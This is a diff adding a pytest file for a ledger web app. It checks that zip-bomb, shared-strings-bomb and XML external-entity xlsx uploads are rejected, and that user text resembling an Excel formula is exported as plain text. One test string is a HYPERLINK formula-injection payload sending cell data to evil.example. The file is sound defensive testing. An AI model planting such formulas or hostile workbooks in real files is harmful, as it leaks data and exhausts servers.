@@ -1,0 +1,64 @@
+"""Issue #11 items 4, 10 and 11 against a real server: costly or hostile xlsx uploads are refused
+with a 400 naming the file before they cost more than a fraction of a second; text a user typed that
+Excel would take for a formula comes back in the export as text.
+
+The hostile workbooks are built in the test (:mod:`tests.hostile`)."""
+
+from __future__ import annotations
+
+import io
+
+import pytest
+from openpyxl import load_workbook
+
+from tests import hostile
+from tests.web_ledger.helpers import MONTH
+
+ATTACKS = {
+    # 4,900 × 1,300 cells, ~300 KB sent, 91 MB unpacked: took 64 s of CPU before
+    "wide.xlsx": (lambda: hostile.wide_sheet(4900, 1300), "解压后过大"),
+    # just under the unpacked cap but more cells than a template can need
+    "many-cells.xlsx": (lambda: hostile.wide_sheet(400, 1300), "单元格超过"),
+    # a 95 MB shared-strings part: 56 s and 600 MB before
+    "strings.xlsx": (lambda: hostile.shared_strings_bomb(95), "sharedStrings.xml"),
+    # DOCTYPE with an external entity: a 500 before
+    "entity.xlsx": (hostile.doctype_sheet, "DOCTYPE"),
+}
+
+
+@pytest.mark.parametrize("name", ATTACKS)
+def test_hostile_workbooks_are_refused_with_400_naming_the_file(visitor, name):
+    build, message = ATTACKS[name]
+    reporter = visitor("hb")
+    response = reporter.post(
+        "/ledger/import",
+        data={"csrf_token": reporter.csrf},
+        files={"workbook": (name, build(), "application/octet-stream")},
+        timeout=15,  # each was refused in well under a second; before the fix they took a minute
+    )
+    assert response.status_code == 400, response.text[:500]
+    assert name in response.text
+    assert message in response.text
+
+
+def test_formula_text_is_exported_as_text(visitor):
+    office = visitor("office")
+    finding = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+    response = office.post(
+        "/ledger/supervision",
+        data={
+            "step": "assign",
+            "unit": "区住建局",
+            "on": f"{MONTH}-12",
+            "finding": finding,
+            "follow_up_deadline": "",
+            "csrf_token": office.csrf,
+        },
+    )
+    assert response.status_code == 303, response.text
+    export = office.get(f"/ledger/export.xlsx?month={MONTH}")
+    assert export.status_code == 200
+    sheet = load_workbook(io.BytesIO(export.content))["督查督办"]
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == finding]
+    assert cells, "the finding is in the export"
+    assert all(cell.data_type == "s" for cell in cells)  # text, not a live formula
